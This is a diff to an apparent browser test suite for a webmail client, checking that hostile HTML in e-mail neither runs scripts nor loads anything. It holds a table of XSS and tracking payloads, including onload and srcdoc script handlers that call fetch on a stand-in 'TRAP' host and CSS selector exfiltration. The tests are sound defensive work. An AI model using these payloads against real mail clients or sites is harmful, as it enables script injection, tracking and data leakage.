@@ -1,5 +1,5 @@
 /* What hostile HTML tries. Nothing of it runs, and nothing is requested. */
-import { expect, htmlMessage, logIn, mailBody, test, watch } from "./stack.js";
+import { expect, htmlMessage, logIn, mailBody, noticed, test, watch } from "./stack.js";
 
 const RUN = "top.document.title='owned';parent.document.title='owned';alert('owned');fetch('TRAP/run')";
 
@@ -18,6 +18,7 @@ const ATTACKS = {
     "links in the head": `<link rel="stylesheet" href="TRAP/style.css"><link rel="preload" as="image" href="TRAP/preload.png"><link rel="prefetch" href="TRAP/prefetch"><link rel="preconnect" href="TRAP"><link rel="dns-prefetch" href="TRAP"><link rel="modulepreload" href="TRAP/m.js"><link rel="icon" href="TRAP/icon.png"><link rel="manifest" href="TRAP/manifest">readable`,
     forms: `<form action="TRAP/form" method="post" target="_top"><input name="a" value="b" autofocus><button>readable</button></form><form action="TRAP/form2" id="f"></form><button form="f" formaction="TRAP/form3" formtarget="_blank">x</button><isindex action="TRAP/i" type=image>readable`,
     CSS: `<style>@import url(TRAP/import.css);@import "TRAP/import2.css";@font-face{font-family:x;src:url(TRAP/font.woff2)}body{font-family:x;background:url(TRAP/body.png)}p[title^=a]{background:image-set(url(TRAP/exfil-a.png) 1x)}p{cursor:url(TRAP/cursor.png),auto;list-style-image:url(TRAP/list.png);mask:url(TRAP/mask.svg#m);filter:url(TRAP/filter.svg#f);content:url(TRAP/content.png)}p::after{content:url(TRAP/after.png)}</style><p title="abc" style="background:url('TRAP/inline.png')">readable</p><div style="behavior:url(TRAP/b.htc);-moz-binding:url(TRAP/x.xml#x);background:url(//127.0.0.1/protocol-relative.png)">x</div>`,
+    "after a style in the body": `<p>readable</p><style>p{transition:none}</style><link rel="preconnect" href="TRAP"><meta http-equiv="refresh" content="0;url=TRAP/refresh"><a href="TRAP/link">two</a><form action="TRAP/form"><button>three</button></form><img src="TRAP/x.png">`,
     media: `<img src="TRAP/img.png" srcset="TRAP/img2.png 2x" lowsrc="TRAP/low.png" dynsrc="TRAP/dyn"><picture><source srcset="TRAP/source.png"><img src="TRAP/p.png"></picture><video src="TRAP/v.mp4" poster="TRAP/poster.png" autoplay></video><audio src="TRAP/a.mp3" autoplay></audio><track src="TRAP/t.vtt"><table background="TRAP/table.png"><tr><td background="TRAP/td.png">readable</table><input type=image src="TRAP/input.png"><body background="TRAP/bg.png">`,
     "frames and objects": `<iframe src="TRAP/frame" onload="${RUN}"></iframe><iframe srcdoc="<script>${RUN}</script><img src=TRAP/srcdoc.png>"></iframe><object data="TRAP/object"></object><embed src="TRAP/embed"><applet code="TRAP/applet"></applet><portal src="TRAP/portal"></portal><fencedframe></fencedframe>readable`,
     frameset: `<frameset onload="${RUN}"><frame src="TRAP/frameset"></frameset>`,
@@ -47,6 +48,7 @@ test("no attack runs or requests anything, not even when it is clicked", async (
             await expect(body).toBeAttached();
             if (html.includes("readable")) await expect(body).toContainText("readable");
             await expect(page.locator(".frame-notice")).toContainText(/are off|not loaded/);
+            await expect(body.locator("[href], [action], link, meta, script, iframe")).toHaveCount(0);
             // Where the reader would click.
             for (const target of await body.locator("a, button, p, div, img").all()) {
                 await target.click({ force: true, timeout: 2000, noWaitAfter: true }).catch(() => undefined);
@@ -120,9 +122,18 @@ test("a PDF opens in a tab of its own, where nothing of it runs, and nothing els
     expect(await tab.evaluate(() => [opener, sessionStorage.length])).toEqual([null, 0]);
 
     await page.bringToFront();
+    // As after a download that takes longer than browsers remember a click.
+    await page.evaluate(() => Object.defineProperty(navigator, "userActivation", { value: { isActive: false } }));
+    await page.getByRole("button", { name: "Open a.pdf in a new tab" }).click();
+    const reopened = page.context().waitForEvent("page");
+    await page.getByRole("dialog").getByRole("link", { name: "Open in a new tab" }).click();
+    expect(await (await reopened).evaluate(() => [opener, sessionStorage.length])).toEqual([null, 0]);
+    await expect(page.getByRole("dialog")).toBeHidden();
+
+    await page.bringToFront();
     await page.getByRole("button", { name: "Open b.pdf in a new tab" }).click();
-    await expect(page.getByText("This file is no PDF")).toBeVisible();
-    expect(page.context().pages()).toHaveLength(2);
+    await noticed(page, /This file is no PDF/);
+    expect(page.context().pages()).toHaveLength(3);
     expect(trap.requests).toEqual([]);
 });
 
@@ -136,7 +147,10 @@ test("remote images are loaded only for the e-mail that the reader names, withou
     const second = await account.received(htmlMessage(html, "second"));
     await logIn(page, account, `#/address/${first.id}`);
 
+    await expect(page.locator(".mail-frame.tall")).toHaveCount(0);
     await page.getByRole("button", { name: "Load for this e-mail" }).click();
+    // The height of a remote image is not known.
+    await expect(page.locator(".mail-frame.tall")).toHaveCount(1);
 
     await expect.poll(() => trap.requests.map(({ path }) => path)).toEqual(["/wanted.png"]);
     expect(trap.requests[0]?.headers.referer).toBeUndefined();
